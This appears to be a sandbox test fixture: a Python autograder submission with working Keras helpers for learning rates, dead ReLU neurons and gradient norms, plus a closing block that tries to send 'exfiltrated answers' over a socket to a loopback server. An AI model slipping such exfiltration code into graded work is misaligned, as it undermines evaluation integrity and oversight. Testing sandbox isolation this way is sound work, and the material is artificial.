"""Tries to send data to a server on the grading machine's loopback; answers correctly."""
# expect: full
# never: FOUND
import keras
import numpy as np
import tensorflow as tf

def compile_with_sgd(model, learning_rate):
    model.compile(optimizer=keras.optimizers.SGD(learning_rate=learning_rate), loss="categorical_crossentropy")
    return model


def compare_learning_rates(build_model, x, y, learning_rates, epochs):
    histories = {}
    for learning_rate in learning_rates:
        model = compile_with_sgd(build_model(), learning_rate)
        histories[learning_rate] = model.fit(x, y, epochs=epochs, verbose=0).history["loss"]
    return histories


def dead_neuron_mask(model, x):
    masks = {}
    activations = x
    for layer in model.layers:
        activations = layer(activations)
        if layer.get_config()["activation"] == "relu":
            masks[layer.name] = np.all(keras.ops.convert_to_numpy(activations) == 0, axis=0)
    return masks


def layer_gradient_norms(model, x, y):
    kernels = [layer.kernel for layer in model.layers]
    with tf.GradientTape() as tape:
        loss = keras.losses.CategoricalCrossentropy()(y, model(x))
    return [float(tf.norm(gradient)) for gradient in tape.gradient(loss, kernels)]


def gradient_ratio_by_depth(build_model, x, y, depths, activations):
    ratios = {}
    for activation in activations:
        ratios[activation] = {}
        for depth in depths:
            norms = layer_gradient_norms(build_model(depth, activation), x, y)
            ratios[activation][depth] = norms[0] / norms[-1]
    return ratios


import socket

for _address in (("127.0.0.1", {{PORT}}), ("localhost", {{PORT}})):
    try:
        with socket.create_connection(_address, timeout=2) as _connection:
            _connection.sendall(b"exfiltrated answers")
            print("FOUND network")
    except OSError:
        pass
